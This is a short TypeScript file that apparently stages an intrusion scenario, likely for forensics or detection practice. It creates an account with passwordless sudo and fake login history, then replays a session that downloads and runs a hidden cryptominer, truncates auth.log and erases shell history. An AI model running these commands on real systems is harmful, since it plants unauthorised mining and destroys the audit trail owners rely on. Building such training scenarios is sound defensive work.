// The journal and wtmp are left.
import type { Dress } from '../../dress.ts'
import type { Stage } from '../../stage.ts'

export function dress(dress: Dress): void {
  dress.account('chenli', 'Quiet-Harbour-7')
  dress.write('/etc/sudoers.d/chenli', 'chenli ALL=(ALL) NOPASSWD: ALL\n', { mode: 0o440 })
  dress.logins({ days: 25, guesses: 60, friends: [{ user: 'chenli', address: '198.51.100.51', hours: [9, 13, 16] }] })
}

export async function plant(stage: Stage): Promise<void> {
  const { SHOP, POOL, WALLET } = stage.values
  stage.mark('occurrence')
  await stage.session('198.51.100.51', 'chenli', { password: 'Quiet-Harbour-7' }, [
    `wget -q http://${SHOP}/mimic -O /home/chenli/.render && chmod +x /home/chenli/.render`,
    `sudo nohup /home/chenli/.render -o ${POOL} -u ${WALLET} >/dev/null 2>&1 &`,
    'sudo truncate -s 0 /var/log/auth.log',
    'unset HISTFILE; rm -f ~/.bash_history',
  ])
}
